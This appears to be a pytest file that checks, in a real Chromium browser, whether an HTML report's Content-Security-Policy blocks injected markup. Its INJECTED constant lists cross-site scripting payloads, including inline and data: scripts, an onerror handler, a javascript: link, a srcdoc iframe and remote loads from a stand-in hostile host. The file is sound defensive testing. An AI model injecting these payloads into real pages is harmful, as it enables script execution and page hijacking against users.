"""The report of the hostile corpus in a real browser: no dialog, no script but its own, nothing asked of the network."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from analysis.cli import main
from hostile.browser import CHROMIUM, browser, recorder

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed"),
]

# What an attacker would hope to have brought into the page, right after its body begins.
INJECTED = """
<script>window.hostile=1;alert('script')</script>
<img src=x onerror="window.hostile=1;alert('handler')">
<img src="http://hostile.invalid/image">
<svg><style>main{display:none}</style><image href="http://hostile.invalid/svg"/></svg>
<style>@import url(http://hostile.invalid/import); main{display:none}</style>
<link rel="stylesheet" href="http://hostile.invalid/sheet">
<script src="http://hostile.invalid/remote"></script>
<script src="data:text/javascript,window.hostile=1;alert('data')"></script>
<iframe src="http://hostile.invalid/frame"></iframe><iframe srcdoc="<script>parent.hostile=1;alert('srcdoc')</script>"></iframe>
<object data="http://hostile.invalid/object"></object><embed src="http://hostile.invalid/embed">
<video src="http://hostile.invalid/video" autoplay></video>
<a id="trap" href="javascript:window.hostile=1;alert('address')">x</a>
<form id="form" action="http://hostile.invalid/form"></form><base href="http://hostile.invalid/">
"""
TOUCH = """
for (const node of document.querySelectorAll("*"))
  for (const name of ["mouseover", "mouseenter", "focus", "input", "change", "toggle", "error", "load"])
    node.dispatchEvent(new Event(name));
for (const node of document.querySelectorAll("button, input, summary, #trap")) node.click();
"""
OWN = "document.querySelectorAll('input.filter').length"


@pytest.fixture(scope="module")
def report(tmp_path_factory):
    folder = tmp_path_factory.mktemp("report")
    assert main(["report", str(Path(__file__).parent / "hostile"), "-o", str(folder), "--to", "html"]) == 1
    return folder / "report.html"


@pytest.fixture(scope="module")
def opened(tmp_path_factory):
    with recorder() as (port, asked), browser(tmp_path_factory.mktemp("profile"), port) as page:
        yield page, asked


def test_nothing_in_the_report_comes_alive(opened, report):
    page, asked = opened
    asked.clear()
    page.open(report, 3)
    page.run(TOUCH)
    page.rest(1)
    assert page.dialogs == []
    assert [line for line in asked if "hostile" in line] == []
    assert page.requests == []
    assert page.run("typeof window.hostile") == "undefined"
    assert page.run("location.href") == report.as_uri()
    assert page.run("document.scripts.length") == 1
    assert page.run("document.querySelectorAll('style').length") == 1
    assert page.run(OWN) > 0
    assert page.run("document.fonts.size") == 1
    assert [line for line in page.console if "violates" in line] == []


def test_the_policy_holds_against_what_is_injected(opened, report, tmp_path):
    page, asked = opened
    asked.clear()
    copy = tmp_path / "report.html"
    copy.write_text(report.read_text(encoding="utf-8").replace("<body>", "<body>" + INJECTED, 1), encoding="utf-8")
    page.open(copy, 3)
    page.run(TOUCH)
    page.run("document.getElementById('form').submit()")
    page.rest(1)
    assert page.dialogs == []
    assert [line for line in asked if "hostile" in line] == []
    assert page.run("typeof window.hostile") == "undefined"
    assert page.run("location.href") == copy.as_uri()
    assert page.run("getComputedStyle(document.querySelector('main')).display") != "none"
    assert page.run(OWN) > 0
    refused = " ".join(page.console)
    for rule in ("script-src", "style-src", "base-uri"):
        assert rule in refused


def test_without_the_policy_the_same_comes_alive(opened, report, tmp_path):
    """So the tests above would have seen it."""
    page, asked = opened
    asked.clear()
    html = re.sub(r"<meta http-equiv=\"Content-Security-Policy\"[^>]*>", "", report.read_text(encoding="utf-8"))
    copy = tmp_path / "report.html"
    copy.write_text(html.replace("<body>", "<body>" + INJECTED, 1), encoding="utf-8")
    page.open(copy, 3)
    assert {"script", "handler", "srcdoc"} <= set(page.dialogs)
    assert [line for line in asked if "hostile" in line]
    assert page.requests
    assert page.run("window.hostile") == 1
